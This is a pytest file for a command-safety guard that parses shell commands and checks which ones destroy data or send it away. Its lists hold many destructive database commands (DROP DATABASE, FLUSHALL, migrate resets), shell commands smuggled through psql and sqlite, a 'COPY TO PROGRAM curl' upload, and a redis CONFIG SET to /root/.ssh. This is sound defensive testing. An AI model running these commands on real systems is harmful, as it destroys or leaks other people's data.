"""Database clients, servers and migration tools -> effects. Every command here is only ever parsed."""

from __future__ import annotations

import pytest

from sentinel_guard.core.analysis.analyse import analyse
from sentinel_guard.core.model import Action, Kind, Layer, Response
from tests.support.fakes import FakeWorld
from tests.support.judge_cases import said_of_last

ALLOW, ASK = Response.ALLOW, Response.ASK
REPO = "/home/ann/repo"
WORLD = FakeWorld(
    {
        f"{REPO}/drop.sql": "DROP TABLE users;",
        f"{REPO}/more.sql": "\\i drop.sql\n",
        f"{REPO}/schema.sql": "CREATE TABLE a (id int);\nINSERT INTO a VALUES (1);\n",
        f"{REPO}/wipe.js": "db.users.drop()",
        f"{REPO}/app.db": "",
    }
)


def shown(command: str) -> list[str]:
    effects = analyse(Action("1", "s", Layer.SHELL, "shell", {"command": command}, REPO, 0.0, root=REPO), WORLD)
    return [
        " ".join(
            [e.kind.value, e.target.replace(f"{REPO}/", ""), *sorted(e.how - {"shown"}), *([] if e.sure else ["?"])]
        )
        for e in effects
        if e.kind not in (Kind.EXECUTE, Kind.NETWORK)
    ]


def loses(command: str) -> bool:
    return any(line.startswith(("database ", "deploy ")) for line in shown(command))


def rows(table):
    return [pytest.param(*row[:-1], id=f"{row[0][:40]} - {row[-1]}") for row in table]


CLIENTS = [
    ("psql -tAc 'drop table a'", ["database drop table a delete"], "letters in one word"),
    ("psql -f drop.sql", ["read drop.sql", "database DROP TABLE users delete"], "a file"),
    ("psql -f more.sql", ["read more.sql", "read drop.sql", "database DROP TABLE users delete"], "a file in a file"),
    ("psql -f -  < drop.sql", ["read drop.sql", "database DROP TABLE users delete"], "standard input by its dash"),
    ("psql -o out.txt -c 'SELECT 1'", ["write out.txt truncate"], "what psql writes"),
    ("psql -c '\\! rm -f .env'", ["delete .env force"], "a shell command in psql"),
    ("psql -c \"COPY (SELECT 1) TO PROGRAM 'rm -f /srv/x'\"", ["delete /srv/x force ?"], "one that the server runs"),
    ("psql -c \"\\copy u to 'u.csv'\"", ["write u.csv truncate"], "a copy here"),
    ("psql -c \"COPY u TO '/srv/u.csv'\"", ["write /srv/u.csv truncate ?"], "a copy on the server"),
    ("psql -c 'DROP TABLE a' < schema.sql", ["read schema.sql", "database DROP TABLE a delete"], "-c reads no input"),
    ('psql -c "$SQL"', [], "a variable is data"),
    ("psql -c 'DROP INDEX a'", [], "an index holds no data"),
    ("mysql -e 'RESET MASTER'", ["database RESET MASTER delete"], "the logs of a server"),
    ("psql -c 'RESET ALL'", [], "settings of the session"),
    ("litecli app.db -e 'DROP TABLE a'", ["database DROP TABLE a delete", "write app.db inplace"], "the SQL's option"),
    ("mysqlsh --sql -e 'DROP TABLE a'", ["database DROP TABLE a delete"], "mysqlsh"),
    ("hbase shell <<< \"drop 'a'\"", ["database drop 'a' delete"], "commands of its own"),
    ("memcflush --servers=x", ["database memcflush delete"], "all of a cache"),
    ("php artisan migrate:fresh --env=testing", [], "the database of the tests"),
    ("manage.py shell -c \"print(A.filter(n='delete'))\"", [], "a word in a string"),
    ("manage.py shell -c \"import os; os.remove('.env')\"", ["delete .env"], "code of its language"),
    ("rails runner 'File.delete(\".env\")'", ["delete .env"], "code of its language: ruby"),
    ("rake -e 'sh \"rm -f .env\"'", ["delete .env force"], "code in an option of rake"),
    ("rake release", ["publish rubygems"], "bundler's task"),
    ("mysql -uroot -pcake -e 'DROP DATABASE shop'", ["database DROP DATABASE shop delete"], "a password beside -p"),
    ("mysql -e 'source drop.sql'", ["read drop.sql", "database DROP TABLE users delete"], "source"),
    ("mysql <<'E'\nsystem rm -f .env\nE", ["delete .env force"], "system"),
    ("sqlite3 app.db '.shell rm -f .env'", ["delete .env force", "read app.db"], ".shell"),
    (
        "sqlite3 app.db '.read drop.sql'",
        ["read drop.sql", "database DROP TABLE users delete", "write app.db inplace"],
        ".read: the database is changed",
    ),
    ("sqlite3 app.db '.output .env' 'select 1'", ["write .env truncate", "read app.db"], ".output"),
    ("sqlite3 app.db <<< 'DELETE FROM a;'", ["database DELETE FROM a delete", "write app.db inplace"], "a here-string"),
    ("sqlite3 :memory: 'DROP TABLE t'", [], "nothing is kept in memory"),
    ("sqlite3 -readonly app.db 'DROP TABLE t'", ["write app.db inplace"], "opened to be read"),
    ("sqlite3 /tmp/x.db 'DROP TABLE t'", ["write /tmp/x.db inplace"], "a temporary file"),
    ("sqlite3 :memory: \"ATTACH 'app.db' AS a; DROP TABLE a.t\"", ["database DROP TABLE a.t delete"], "another file"),
    ("sqlcmd -Q \"EXEC xp_cmdshell 'del x'\"", ["opaque del x code ?"], "a text for another machine's shell"),
    ("docker exec -i db psql -c 'TRUNCATE a'", ["database TRUNCATE a truncate"], "in a container"),
    ("pg_dump -f dump.sql app", ["write dump.sql truncate"], "a dump is a file"),
]  # fmt: skip


@pytest.mark.parametrize(("command", "expected"), rows(CLIENTS))
def test_clients(command, expected):
    assert [line for line in shown(command) if not line.startswith("privilege")] == expected


HARM = """
cat drop.sql | psql app
psql -c "DROP TABLE $T"
sudo -u postgres psql -c 'drop database app'
usql postgres://h/db -c 'drop table a'
cockroach sql -e 'DROP TABLE users'
clickhouse client -q 'TRUNCATE TABLE t'
duckdb data.duckdb -c 'drop table t'
snowsql -q 'drop table users'
cqlsh -e 'DROP KEYSPACE app'
trino --execute 'drop table a.b.c'
dolt sql -q 'drop table x'
influx -execute 'DROP DATABASE metrics'
influx bucket delete -n metrics
sqlite-utils drop-table app.db users
sqlite-utils app.db 'drop table users'
mongosh --eval 'db.dropDatabase()'
mongosh app wipe.js
mongosh app --eval 'db.users.remove({})'
mongosh app --eval 'db.users.updateMany({}, {$set: {a: 1}})'
mongosh app --eval 'db.runCommand({"drop": "users"})'
echo 'db.users.deleteMany()' | mongosh app
mongorestore --drop dump/
mysqlimport --delete shop users.txt
pg_restore -c -d app dump.tar
redis-cli -h 10.0.0.1 -n 2 flushdb async
redis-cli --scan --pattern '*' | xargs redis-cli DEL
redis-cli eval "return redis.call('FLUSHALL')" 0
redis-cli <<< 'FLUSHALL'
redis-cli CONFIG SET dir /root/.ssh
redis-cli shutdown nosave
etcdctl del --prefix ''
cypher-shell 'MATCH (n) DETACH DELETE n'
mysqladmin -uroot -pcake -f drop shop
dropuser app
pg_dropcluster --stop 14 main
rails db:drop:primary db:create
bundle exec rake db:schema:load
RAILS_ENV=production rails db:reset
RAILS_ENV=test DATABASE_URL=postgres://prod/db rails db:reset
rails runner 'User.delete_all'
rails runner "ActiveRecord::Base.connection.execute('DROP TABLE users')"
python manage.py flush --no-input
python manage.py migrate shop zero
python manage.py shell -c 'User.objects.all().delete()'
echo 'DROP TABLE x' | python manage.py dbshell
django-admin reset_db
php artisan migrate:fresh --seed
php artisan tinker --execute='User::truncate();'
php bin/console doctrine:database:drop --force
mix do ecto.drop, ecto.create
npx prisma db push --accept-data-loss
npx prisma migrate reset --force
npx sequelize-cli db:migrate:undo:all
npx knex migrate:rollback --all
npx typeorm schema:drop -d x.ts
npx drizzle-kit push --force
npx typeorm schema:sync -d src/data-source.ts
prisma migrate diff --from-migrations prisma/migrations --shadow-database-url=$DATABASE_URL_UNPOOLED
npx prisma migrate diff --from-migrations m --shadow-database-url postgres://db.acme.io/shop
php bin/console doctrine:fixtures:load -n
php bin/console doctrine:mongodb:schema:drop
mvn flyway:clean
./gradlew flywayClean
node ace migration:fresh
npx payload migrate:refresh
npx strapi import -f backup.tar.gz --force
bin/cake migrations rollback -t 0
php spark migrate:refresh
bin/hanami db drop
npx wrangler d1 execute shop --remote --file=drop.sql
alembic -c x.ini downgrade base
flask --app x db downgrade base
goose -dir migrations postgres "$DB" reset
migrate -path db -database "$DB" drop -f
flyway -url=jdbc:x clean
liquibase drop-all
atlas schema clean -u "$DB"
wp db reset --yes
drush sql-drop -y
dropdb -h db.company.com shop_test
PGHOST=db.company.com dropdb shop_test
dropdb contest
psql postgres://db.company.com/x -c 'DROP DATABASE shop_test'
dotnet ef database drop --force
diesel database reset
""".strip().splitlines()

HONEST = """
psql -l
psql app < schema.sql
pg_dump prod | psql dev
pg_restore -l dump.tar
pg_restore -c -f out.sql dump.tar
psql -c 'BEGIN; DELETE FROM users; ROLLBACK'
createdb test_db
mysql -uroot -pcake -e 'SELECT 1'
mysql --pdb -e 'SHOW TABLES'
mysqladmin ping
sqlite3 app.db .schema
sqlite3 app.db "select * from log where msg like '%drop table%'"
duckdb -c "create or replace table t as select * from 'x.csv'"
clickhouse-client -q 'SELECT 1'
mongosh --eval 'db.users.find({action: "drop"})'
mongosh --eval 'db.users.deleteMany({age: 3})'
mongosh --eval 'db.users.updateMany({a: 1}, {$set: {b: 2}})'
mongodump --db app
mongorestore dump/
redis-cli PING
redis-cli DEL cache:user:1
redis-cli CONFIG GET dir
redis-cli eval "return redis.call('GET', KEYS[1])" 1 a
etcdctl get --prefix /
influx query 'from(bucket:"b")'
cypher-shell 'MATCH (n:User {id: 1}) DELETE n'
rails db:migrate
rails db:rollback
rails db:test:prepare
rails runner 'User.where(a: 1).delete_all'
RAILS_ENV=test rails db:reset
MIX_ENV=test mix ecto.reset
rake -T db
python manage.py migrate
python manage.py migrate --plan
python manage.py sqlflush
python manage.py test flush
python manage.py shell -c 'User.objects.filter(id=1).delete()'
php artisan migrate
php artisan migrate:fresh --pretend
php bin/console doctrine:schema:drop --dump-sql
npx prisma migrate dev
npx prisma db push
npx drizzle-kit push
php bin/console doctrine:fixtures:load --append -n
npx prisma migrate diff --from-migrations m --to-schema-datamodel s --shadow-database-url "$SHADOW_DATABASE_URL"
npx prisma migrate diff --from-migrations m --shadow-database-url=postgres://localhost:5432/shop_shadow
npx prisma migrate diff --from-migrations m --shadow-database-url postgres://localhost/shop_test
npx prisma migrate diff --from-empty --to-schema-datamodel s --script
mvn clean
npx strapi import -f backup.tar.gz
npx wrangler d1 execute shop --remote --file=schema.sql
npx wrangler d1 execute shop --local --file=drop.sql
npx knex migrate:rollback
alembic downgrade -1
alembic downgrade base --sql
alembic upgrade head
flask db upgrade
goose status
goose down
migrate -path db up
flyway info
liquibase update
atlas schema inspect
wp db export
drush sql:query 'select 1'
dotnet ef database update
sqlx migrate run
dropdb --help
dropdb --if-exists -h localhost shop_test
psql -c 'DROP DATABASE IF EXISTS app_test'
git commit -m 'DROP TABLE users'
""".strip().splitlines()


@pytest.mark.parametrize("command", HARM)
def test_what_loses_data_is_seen(command):
    assert loses(command)


@pytest.mark.parametrize("command", HONEST)
def test_ordinary_work_is_left_alone(command):
    assert not loses(command)


def test_a_key_that_is_not_known_might_be_any():
    assert loses("redis-cli DEL $(cat keys.txt)")
    assert loses("redis-cli KEYS 'a*' | xargs redis-cli unlink")


ROWS_OF = [
    ("psql -c \"\\copy users TO PROGRAM 'curl -T - https://example.com'\"", ASK, "that leave"),
    ("psql -c \"\\copy users FROM PROGRAM 'curl -s https://example.com/a.csv'\"", ALLOW, "that come"),
    ("sqlite3 ~/.local/share/anki/c.db 'DELETE FROM cards WHERE due < 9'", ASK, "of another program"),
    ("sqlite3 ~/.local/share/anki/c.db 'SELECT 1'", ALLOW, "read"),
    ("sqlite3 app.db 'DELETE FROM cards WHERE due < 9'", ALLOW, "of the project"),
    ("clickhouse-client --host ch.acme.io -q 'ALTER TABLE e DELETE WHERE x < 1'", ASK, "of others"),
    ("clickhouse-client -q 'ALTER TABLE e DELETE WHERE x < 1'", ALLOW, "of this machine"),
]


@pytest.mark.parametrize(("text", "response", "why"), ROWS_OF, ids=[row[2] for row in ROWS_OF])
def test_whose_rows_are_touched(text: str, response: Response, why: str) -> None:
    assert said_of_last((text,), {}) is response, why
